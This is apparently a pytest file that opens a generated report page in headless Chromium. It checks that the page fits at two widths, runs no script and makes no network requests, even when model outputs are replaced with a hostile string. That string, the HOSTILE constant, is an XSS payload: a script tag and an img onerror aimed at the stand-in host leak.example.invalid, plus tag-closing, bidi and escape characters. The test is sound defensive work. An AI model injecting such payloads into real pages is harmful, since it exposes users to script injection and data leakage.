"""The page in a real browser, headless Chromium, where one is installed: it loads, fits, and asks for nothing."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from selfimprove.loop.loop import Runner
from selfimprove.report.page import page

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
FLAGS = (
    *("--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"),
    *("--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--hide-scrollbars"),
)
HOST = "leak.example.invalid"
HOSTILE = f"<script src=//{HOST}/></script><img src=http://{HOST}/x onerror=alert(1)></style></pre>\u202e\x1b[31m"
"""What a hostile model says; then comes what it said in the run."""
PLAIN = "some quite ordinary words, "
WIDTHS = (1280, 390)
# Each page is opened in frames of both widths, which this page outside of it measures: itself it may run no script.
HARNESS = """<!doctype html><meta charset="utf-8"><body><script>
const found = [];
addEventListener('load', () => {
  for (const frame of document.querySelectorAll('iframe')) {
    const inside = frame.contentDocument, view = frame.contentWindow;
    const wide = [...inside.querySelectorAll('body *')].filter(one =>
      one.getBoundingClientRect().right > view.innerWidth + 1 && !one.closest('.scroll, pre, .vh, .skip'));
    const seen = one => one.getClientRects().length > 0;
    found.push({
      file: frame.dataset.file,
      width: view.innerWidth,
      scrolls: inside.documentElement.scrollWidth,
      wide: wide.map(one => one.tagName + '.' + one.className).slice(0, 5),
      elements: [...inside.querySelectorAll('*')].map(one => one.tagName).join(' '),
      sets: [...inside.querySelectorAll('.set')].filter(seen).map(one => one.className),
      charts: [...inside.querySelectorAll('svg')].filter(seen).length,
      words: inside.body.innerText.length,
      requests: view.performance.getEntriesByType('resource').map(one => one.name),
      loaded: view.performance.getEntriesByType('navigation')[0].duration,
      small: Math.min(...[...inside.querySelectorAll('p, td, th, dd, dt, li, code, label')].filter(seen)
        .map(one => parseFloat(view.getComputedStyle(one).fontSize))),
    });
  }
  const said = document.createElement('pre');
  said.id = 'found';
  said.textContent = JSON.stringify(found);
  document.body.replaceChildren(said);
});
</script>FRAMES</body>"""


def browsed(place: Path, files: list[Path]) -> tuple[list[dict[str, Any]], str, str]:
    """What a browser finds at both widths, what it said, and its log of the network."""
    frames = "".join(
        f'<iframe data-file="{file.name}" src="{file.name}" style="width:{width}px;height:900px;border:0"></iframe>'
        for file in files
        for width in WIDTHS
    )
    (place / "harness.html").write_text(HARNESS.replace("FRAMES", frames))
    log = place / "net.json"
    done = subprocess.run(
        [
            *(str(CHROMIUM), *FLAGS, "--allow-file-access-from-files", "--enable-logging=stderr"),
            *(f"--user-data-dir={place / 'profile'}", f"--log-net-log={log}", "--virtual-time-budget=3000"),
            *("--window-size=1400,1000", "--dump-dom", (place / "harness.html").as_uri()),
        ],
        capture_output=True,
        text=True,
        timeout=120,
    )
    said = re.search(r'<pre id="found">(.*?)</pre>', done.stdout, re.DOTALL)
    assert said, done.stdout[-2000:] + done.stderr[-2000:]
    import html

    return json.loads(html.unescape(said[1])), done.stderr, log.read_text(errors="replace")


def renamed(run: Path, words: str) -> None:
    """Let all models of a run say something else, as a model could have."""
    for path in [*run.glob("round_*/evaluation/*.jsonl"), *run.glob("round_*/*/output.jsonl")]:
        lines = []
        for line in path.read_text().splitlines():
            record = json.loads(line)
            if "completion" in record:
                record["completion"][0]["content"] = words + record["completion"][0]["content"]
            lines.append(json.dumps(record, ensure_ascii=False))
        path.write_text("\n".join([*lines, ""]))


@pytest.mark.long
@pytest.mark.skipif(CHROMIUM is None, reason="no chromium is installed: apt-get install chromium")
def test_the_page_loads_fits_and_asks_for_nothing_whatever_a_model_says(
    make_run: Callable[..., Any], tmp_path: Path
) -> None:
    folder, log = make_run("rounds=2", "gate_problems=40", "sealed_problems=40")
    Runner(folder, log).run()
    files = [tmp_path / "plain.html", tmp_path / "hostile.html"]
    for words, file in zip((PLAIN, HOSTILE), files, strict=True):
        copy = shutil.copytree(folder.root, tmp_path / "copies" / file.stem / "run", symlinks=True)
        renamed(copy, words)
        page.write([copy], file)
    assert HOST in files[1].read_text() and "\u202e" not in files[1].read_text()
    found, said, network = browsed(tmp_path, files)
    assert len(found) == 4
    for one in found:  # it takes a tenth of a second where nothing else runs; here four load beside other tests
        assert one["scrolls"] <= one["width"] and not one["wide"], one["wide"]
        assert one["words"] > 2000 and one["charts"] >= 1 and one["loaded"] < 8000 and one["small"] >= 14
        assert one["sets"] == ["set r2 k-gained"] and not one["requests"]
    plain, hostile = ([one["elements"] for one in found if one["file"] == file.name] for file in files)
    assert plain == hostile
    assert "Content Security Policy" not in said and "CONSOLE" not in said
    assert HOST not in network
